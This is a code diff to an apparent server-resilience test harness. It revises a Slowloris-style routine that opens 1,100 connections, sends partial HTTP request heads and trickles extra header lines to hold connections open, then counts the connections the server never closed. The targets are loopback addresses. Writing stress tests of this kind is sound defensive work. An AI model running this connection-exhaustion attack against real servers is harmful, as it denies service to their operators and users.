@@ -8,6 +8,8 @@ from contextlib import suppress
 from attacks.target import OFFER, SDP, Report, Target, paced
 
 HALF_OPEN = 1_100
+SETTLED_S = 1.0
+"""Until this side has noticed what the other has closed."""
 
 
 class Held:
@@ -43,17 +45,14 @@ class Held:
                 writer.write(piece)
         await asyncio.sleep(0)
 
-    def standing(self) -> int:
-        """How many the server has not closed."""
-        return sum(1 for reader, _ in self._open if not reader.at_eof() and not reader.exception())
-
     async def close(self) -> Report:
-        """Let go of all. Counts what was answered, by status."""
-        self.outcomes["standing"] = self.standing()
+        """Let go of all. Counts those that the server has not closed, and its answers by status."""
+        await asyncio.sleep(SETTLED_S)
         for reader, writer in self._open:
-            if reader._buffer:  # type: ignore[attr-defined]  # what came without being asked for
-                status = bytes(reader._buffer[9:12]).decode(errors="replace")  # type: ignore[attr-defined]
-                self.outcomes[status] += 1
+            # at_eof() would ask for what has come to be read
+            self.outcomes["standing"] += not reader._eof and reader.exception() is None
+            if reader._buffer:
+                self.outcomes[bytes(reader._buffer[9:12]).decode(errors="replace")] += 1
             writer.close()
         for _, writer in self._open:
             with suppress(OSError):
@@ -62,16 +61,17 @@ class Held:
 
 
 async def half_open(target: Target, addresses: int = 1) -> Report:
-    """1,100 connections that send the first half of a request's head, as fast as they open."""
+    """1,100 connections that send the first half of a request's head, as fast as they open; what
+    isn't open after a quarter of the time isn't tried."""
     held = Held(target)
     sources = [target.source, *(f"127.0.3.{n}" for n in range(1, addresses))]
     loop = asyncio.get_running_loop()
-    until = loop.time() + target.seconds
+    began = loop.time()
     for n in range(HALF_OPEN):
-        if loop.time() > until:
+        if loop.time() > began + target.seconds / 4:
             break
         await held.open(b"GET / HTTP/1.1\r\nHost: x\r\n", sources[n % len(sources)])
-    while loop.time() < until:
+    while loop.time() < began + target.seconds:
         await asyncio.sleep(0.5)
         await held.dribble(b"X-More: y\r\n")
     return await held.close()
